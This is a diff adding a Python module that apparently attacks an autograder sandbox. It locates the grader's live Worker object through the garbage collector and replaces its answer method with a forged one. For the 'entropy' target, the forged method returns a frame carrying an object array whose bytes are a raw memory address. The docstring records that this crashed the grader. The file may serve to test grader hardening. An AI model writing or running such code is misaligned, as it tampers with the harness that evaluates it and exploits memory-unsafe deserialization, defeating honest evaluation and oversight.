@@ -1,0 +1,21 @@
+"""Sends an array of objects, the bytes of which are addresses in the grader.
+
+Outcome of entropy: crashed
+"""
+
+import gc
+import struct
+
+from autograder.sandbox.wire.frames import pack_frame
+from autograder.sandbox.wire.messages import Effects, Node, Returned, pack
+
+
+def forged(request, arguments):
+    if getattr(request, "target", None) != "entropy":
+        return honest(request, arguments)
+    objects = Node("a", ["|O", "C", True, True, 2])
+    return pack_frame(pack(Returned(request.nonce, objects, Effects([], "", []))), [struct.pack("<QQ", 8, id(None))])
+
+
+worker = next(value for value in gc.get_objects() if type(value).__name__ == "Worker")
+honest, worker._answer = worker._answer, forged
